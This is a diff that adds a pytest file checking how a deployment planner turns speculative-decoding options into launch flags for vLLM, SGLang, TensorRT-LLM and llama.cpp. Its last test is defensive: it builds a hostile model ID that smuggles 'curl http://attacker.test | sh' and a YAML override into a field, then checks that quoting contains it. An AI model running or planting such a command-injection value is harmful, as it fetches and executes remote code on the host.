@@ -1,0 +1,124 @@
+"""Speculative decoding as each engine is told it. Before: every engine's launch command got vLLM's
+``--speculative-config`` with the method "draft", which vLLM itself rejects (its name is ``draft_model``: 0.34.0
+``config/speculative.py`` :90-97) and SGLang, TensorRT-LLM and llama.cpp do not define at all; an EAGLE method
+went without the head vLLM requires ("num_speculative_tokens was provided but without speculative model",
+``v1/worker/gpu/spec_decode/speculator_config.py`` :172-175)."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import subprocess
+
+import pytest
+
+from model_catalog import get_gpu, get_model
+from planner.deploy.options import DeploymentOptions, SpeculativeOptions
+from planner.engines.registry import get_engine, overhead_profile
+from planner.engines.vllm.engine import VLLM_SPECULATIVE_METHODS
+from planner.planning.plan import PlanRequest, plan
+
+H100 = get_gpu("h100-sxm-80gb")
+LLAMA = get_model("meta-llama/Llama-3.1-8B").spec
+QWEN_MTP = get_model("Qwen/Qwen3.6-27B").spec  # carries MTP layers
+DRAFT = get_model("meta-llama/Llama-3.2-1B").spec
+HEAD = "<EAGLE-3 head for meta-llama/Llama-3.1-8B>"
+# vLLM 0.34.0 config/speculative.py SpeculativeMethod (:90-97) and EagleModelTypes (:87-89); medusa up to 0.32.0
+VLLM_METHODS = {"ngram", "draft_model", "suffix", "eagle", "eagle3", "mtp", "medusa"}
+
+
+def _yaml(flag: str) -> dict[str, object]:
+    """The file bash writes for ``--extra_llm_api_options <(...)``: one mapping of scalars (ints, or strings the
+    planner writes as JSON, which YAML reads alike), parsed by hand: no YAML library in the requirements."""
+    written = subprocess.run(["bash", "-c", f"cat {flag.split(' ', 1)[1]}"], capture_output=True, text=True, check=True)
+    head, *lines = written.stdout.splitlines()
+    assert head == "speculative_config:" and all(line.startswith("  ") and ": " in line for line in lines), lines
+    pairs = (line.strip().split(": ", 1) for line in lines)
+    return {
+        key: int(value) if value.isdigit() else (json.loads(value) if value.startswith('"') else value)
+        for key, value in pairs
+    }
+
+
+def _flags(engine: str, method: str, tokens: int = 4, draft_id: str | None = None) -> list[str]:
+    draft = DRAFT if draft_id is None else DRAFT.model_copy(update={"id": draft_id})
+    spec = SpeculativeOptions(
+        method=method, num_speculative_tokens=tokens, draft_model=draft if method == "draft" else None
+    )  # type: ignore[arg-type]
+    model = QWEN_MTP if method == "mtp" else LLAMA
+    weights, kv = ("q8_0", "fp16") if engine == "llamacpp" else ("bf16", "bf16")
+    request = PlanRequest(
+        model=model,
+        gpu=H100,
+        gpu_memory_bytes=H100.memory_bytes_for(True),
+        weights=weights,  # type: ignore[arg-type]
+        kv_dtype=kv,  # type: ignore[arg-type]
+        context_tokens=8192,
+        max_model_len=8192,
+        overhead=overhead_profile(engine),
+        deployment=DeploymentOptions(speculative=spec),
+    )
+    return get_engine(engine).deployment_flags(request, plan(request), 0)
+
+
+@pytest.mark.parametrize(
+    ("method", "expected"),
+    [
+        ("draft", '{"model": "meta-llama/Llama-3.2-1B", "method": "draft_model", "num_speculative_tokens": 4}'),
+        ("eagle3", f'{{"model": "{HEAD}", "method": "eagle3", "num_speculative_tokens": 4}}'),
+        ("mtp", '{"method": "mtp", "num_speculative_tokens": 4}'),  # the target's own MTP layers draft
+    ],
+)
+def test_vllm_speculative_config(method: str, expected: str) -> None:
+    assert shlex.split(" ".join(_flags("vllm", method))) == ["--speculative-config", expected]
+    assert set(VLLM_SPECULATIVE_METHODS.values()) <= VLLM_METHODS
+
+
+@pytest.mark.parametrize(
+    ("method", "expected"),
+    [
+        ("draft", "--speculative-algorithm STANDALONE --speculative-draft-model-path meta-llama/Llama-3.2-1B"),
+        ("eagle3", f"--speculative-algorithm EAGLE3 --speculative-draft-model-path '{HEAD}'"),
+        ("mtp", "--speculative-algorithm NEXTN"),
+    ],
+)
+def test_sglang_speculative_algorithm(method: str, expected: str) -> None:
+    chain = " --speculative-num-steps 4 --speculative-eagle-topk 1 --speculative-num-draft-tokens 5"
+    assert _flags("sglang", method) == [expected + chain]
+
+
+@pytest.mark.parametrize(
+    ("method", "expected"),
+    [
+        (
+            "draft",
+            {"decoding_type": "Draft_Target", "max_draft_len": 4, "speculative_model": "meta-llama/Llama-3.2-1B"},
+        ),
+        ("eagle3", {"decoding_type": "Eagle3", "max_draft_len": 4, "speculative_model": HEAD}),
+        ("mtp", {"decoding_type": "MTP", "num_nextn_predict_layers": 4}),
+    ],
+)
+def test_tensorrt_llm_speculative_config_is_a_yaml_file_the_shell_writes(
+    method: str, expected: dict[str, object]
+) -> None:
+    (flag,) = _flags("trtllm", method)
+    assert flag.startswith("--extra_llm_api_options <(") and flag.endswith(")")
+    assert _yaml(flag) == expected
+
+
+def test_llama_cpp_takes_a_draft_gguf() -> None:
+    assert _flags("llamacpp", "draft") == ["--model-draft Llama-3.2-1B-Q8_0.gguf --draft-max 4"]
+
+
+@pytest.mark.parametrize("engine", ["vllm", "sglang", "trtllm"])
+def test_a_hostile_draft_id_stays_one_value(engine: str) -> None:
+    model_id = "evil'}; curl http://attacker.test | sh #\n  decoding_type: MTP"
+    (flag,) = _flags(engine, "draft", draft_id=model_id)
+    if engine == "trtllm":
+        assert _yaml(flag)["speculative_model"] == model_id
+        return
+    argv = shlex.split(flag)
+    if engine == "vllm":
+        assert argv[0] == "--speculative-config" and len(argv) == 2 and json.loads(argv[1])["model"] == model_id
+    else:
+        assert argv[argv.index("--speculative-draft-model-path") + 1] == model_id and len(argv) == 10
